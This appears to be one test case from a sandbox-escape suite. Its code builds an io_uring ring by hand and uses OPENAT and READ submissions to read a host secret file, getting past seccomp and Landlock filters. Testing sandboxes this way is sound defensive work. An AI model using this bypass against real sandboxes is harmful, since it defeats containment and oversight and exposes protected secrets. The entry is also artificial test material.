# class: system-call table tricks
# technique: open and read a file by io_uring: calls that no filter sees
# layers: landlock, seccomp, rlimits, identity
# code: native
# witness: secret

IORING_OP_OPENAT, IORING_OP_READ = 18, 22
parameters = buffer(120)
ring = call("io_uring_setup", 4, parameters)
sq_entries, cq_entries, _, _, _, features = struct.unpack_from("IIIIII", parameters.raw, 0)
(_, sq_tail, sq_mask, _, _, _, sq_array, _, _) = struct.unpack_from("IIIIIIIIQ", parameters.raw, 40)
(_, cq_tail, cq_mask, _, _, cqes, _, _, _) = struct.unpack_from("IIIIIIIIQ", parameters.raw, 80)
size = max(sq_array + 4 * sq_entries, cqes + 16 * cq_entries)
rings = mmap.mmap(ring, size, flags=mmap.MAP_SHARED, offset=0)
entries = mmap.mmap(ring, 64 * sq_entries, flags=mmap.MAP_SHARED, offset=0x10000000)

def submit(index, operation, fd, at, length, offset):
    struct.pack_into("BBHiQQIIQ24x", entries, 64 * index, operation, 0, 0, fd, offset, at, length, 0, index)
    struct.pack_into("I", rings, sq_array + 4 * index, index)
    struct.pack_into("I", rings, sq_tail, index + 1)
    call("io_uring_enter", ring, 1, 1, 1, 0, 0)
    (answer,) = struct.unpack_from("i", rings, cqes + 16 * index + 8)
    if answer < 0:
        raise OSError(-answer, "io_uring")
    return answer

path, room = buffer(host["secret"].encode()), buffer(4096)
fd = submit(0, IORING_OP_OPENAT, -100, address(path), 0, 0)
length = submit(1, IORING_OP_READ, fd, address(room), 4096, 0)
return escaped(room.raw[:length].decode())
